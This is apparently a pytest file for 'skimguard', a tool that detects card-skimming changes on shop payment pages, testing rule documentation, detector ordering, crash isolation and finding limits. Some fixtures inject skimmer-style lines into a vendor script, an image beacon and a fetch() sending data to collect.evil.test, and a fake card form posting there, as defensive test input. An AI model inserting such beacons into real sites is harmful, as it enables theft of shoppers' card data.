"""The registry: every rule documented, all detectors run, a crash costs nothing else."""

from __future__ import annotations

from collections.abc import Iterable, Iterator

import pytest

from skimguard.analyze.engine import catalog
from skimguard.detect import registry
from skimguard.detect.attribution import AttributionDetector
from skimguard.detect.base import DetectContext, Rule
from skimguard.detect.code import CodeDetector
from skimguard.detect.destinations import DestinationDetector
from skimguard.detect.exfil import ExfilDetector
from skimguard.detect.forms import FormDetector
from skimguard.detect.headers import HeaderDetector
from skimguard.detect.health import HealthDetector
from skimguard.detect.navigation import NavigationDetector
from skimguard.detect.payment_flow import PaymentFlowDetector
from skimguard.detect.registry import ALL_RULES, DETECTORS, rule, run_detectors
from skimguard.detect.scripts import ScriptChangeDetector
from skimguard.models import Category, ChangeRule, Finding, Severity, script_url_key
from skimguard.testing.factories import (
    VENDOR_JS,
    VENDOR_URL,
    brief,
    card_form,
    cart_page,
    make_capture,
    make_context,
    make_decision,
    make_request,
    payment_page,
    replace_script_body,
)

VENDOR_KEY = script_url_key(VENDOR_URL)


class Boom:
    rules: tuple[Rule, ...] = ()

    def run(self, ctx: DetectContext) -> Iterable[Finding]:
        raise RuntimeError("unexpected page shape")


class HalfWay:
    """Yields one finding, then crashes: the finding is kept."""

    rules: tuple[Rule, ...] = ()

    def run(self, ctx: DetectContext) -> Iterator[Finding]:
        yield registry.SG009.finding(ctx.site.name, page="payment", subject="first", severity=Severity.LOW)
        raise ValueError("second one broke")


class Flood:
    rules: tuple[Rule, ...] = ()

    def run(self, ctx: DetectContext) -> Iterator[Finding]:
        for i in range(1500):
            severity = Severity.HIGH if i == 1499 else Severity.INFO
            yield registry.SG009.finding(ctx.site.name, page="payment", subject=f"s{i:04}", severity=severity)


def test_detectors_are_explicit_and_ordered() -> None:
    assert [type(d) for d in DETECTORS] == [
        HealthDetector,
        ScriptChangeDetector,
        CodeDetector,
        HeaderDetector,
        FormDetector,
        NavigationDetector,
        PaymentFlowDetector,
        DestinationDetector,
        ExfilDetector,
        AttributionDetector,
    ]


def test_rules_are_unique_documented_and_found_by_id() -> None:
    ids = [r.id for r in ALL_RULES]
    assert ids == sorted(set(ids))
    code_ids = [i.rule_id for i in catalog()]  # SG4xx: documented by the analysis engine's catalog
    assert {f"SG{n}" for n in range(401, 447)} | {"SG450"} <= set(code_ids)
    assert [i for i in ids if not i.startswith("SG4")] == [
        "SG001", "SG002", "SG003", "SG004", "SG005", "SG006", "SG007", "SG008", "SG009",
        "SG101", "SG102", "SG103", "SG104", "SG105", "SG110",
        "SG201", "SG202", "SG203", "SG204",
        "SG301", "SG302", "SG303", "SG304", "SG305", "SG306", "SG307", "SG308",
        "SG310", "SG311", "SG312",
        "SG501", "SG502", "SG503", "SG504", "SG510", "SG511",
        "SG601", "SG602", "SG603", "SG604", "SG605",
        "SG701", "SG702", "SG703", "SG704", "SG705", "SG706", "SG707", "SG708", "SG709", "SG710",
        "SG711", "SG712", "SG713", "SG714", "SG715",
        "SG720", "SG721", "SG722", "SG723",
    ]  # fmt: skip
    assert [i for i in ids if i.startswith("SG4")] == code_ids
    for r in ALL_RULES:
        assert r.title and len(r.doc) > 100, r.id
        assert "Why:" in r.doc and "Known false positives:" in r.doc and "How to fix:" in r.doc, r.id
    assert rule("SG102").title == "Script content changed"
    assert rule("sg303").severity is Severity.CRITICAL
    assert rule("SG110").category is Category.INVENTORY
    with pytest.raises(KeyError, match="no rule 'SG999'"):
        rule("SG999")


def test_clean_scan_against_a_fresh_baseline_finds_nothing() -> None:
    assert run_detectors(make_context(make_capture(), baseline=make_capture())) == []


def test_clean_scan_with_an_inventory_is_never_above_low() -> None:
    d = make_decision(VENDOR_KEY, change_rule=ChangeRule.ALLOW)
    findings = run_detectors(make_context(make_capture(), baseline=make_capture(), decisions=(d,)))
    assert findings and max(f.severity for f in findings) <= Severity.LOW
    assert {f.rule_id for f in findings} == {"SG110"}


def test_vendor_tamper_with_its_beacon() -> None:
    current = replace_script_body(
        make_capture(), VENDOR_URL, VENDOR_JS + "\nnew Image().src='https://collect.evil.test/i?d='+btoa(x);"
    )
    beacon = make_request("https://collect.evil.test/i?d=" + "A" * 100, resource_type="image", initiator=VENDOR_URL)
    page = next(p for p in current.pages if p.name == "payment")
    current = make_capture(
        [cart_page(), payment_page(scripts=page.scripts, extra_requests=(beacon,))], bodies=current.bodies
    )
    findings = run_detectors(make_context(current, baseline=make_capture()))
    assert brief(findings) == [
        ("SG310", "critical", "payment", "collect.evil.test"),
        ("SG102", "high", "payment", VENDOR_KEY),
    ]


def test_fake_form_on_the_cart() -> None:
    fake = card_form("https://collect.evil.test/c", id="fake", frame_url="http://shop.test/cart")
    current = make_capture([cart_page(forms=(fake,)), payment_page()])
    assert brief(run_detectors(make_context(current, baseline=make_capture()))) == [
        ("SG303", "critical", "cart", "card-fields"),
        ("SG307", "critical", "payment", "cart>payment"),  # and the card is asked for again
    ]


def test_a_crashing_detector_costs_nothing_else() -> None:
    current = replace_script_body(make_capture(), VENDOR_URL, VENDOR_JS + "\nfetch('https://collect.evil.test/');")
    ctx = make_context(current, baseline=make_capture())
    findings = run_detectors(ctx, detectors=(Boom(), ScriptChangeDetector(), HalfWay()))
    assert brief(findings) == [
        ("SG102", "high", "payment", VENDOR_KEY),
        ("SG009", "medium", None, "Boom"),
        ("SG009", "medium", None, "HalfWay"),
        ("SG009", "low", "payment", "first"),
    ]
    boom = findings[1]
    assert boom.category is Category.HEALTH
    assert boom.title == "Detector crashed: Boom"
    assert boom.evidence == {"detector": "Boom", "error_type": "RuntimeError", "message": "unexpected page shape"}


def test_a_flooding_detector_is_cut_to_its_worst_findings() -> None:
    findings = run_detectors(make_context(), detectors=(Flood(),))
    assert len(findings) == registry.MAX_FINDINGS_PER_DETECTOR + 1
    assert brief(findings[:2]) == [("SG009", "high", "payment", "s1499"), ("SG008", "medium", None, "Flood")]
    assert findings[1].evidence == {"detector": "Flood", "kept": 1000, "dropped_at_least": 500}


def test_duplicates_keep_the_most_severe() -> None:
    class Twice:
        rules: tuple[Rule, ...] = ()

        def run(self, ctx: DetectContext) -> Iterator[Finding]:
            yield registry.SG009.finding("shop", page="p", subject="x", severity=Severity.LOW)
            yield registry.SG009.finding("shop", page="p", subject="x", severity=Severity.HIGH)

    assert brief(run_detectors(make_context(), detectors=(Twice(),))) == [("SG009", "high", "p", "x")]
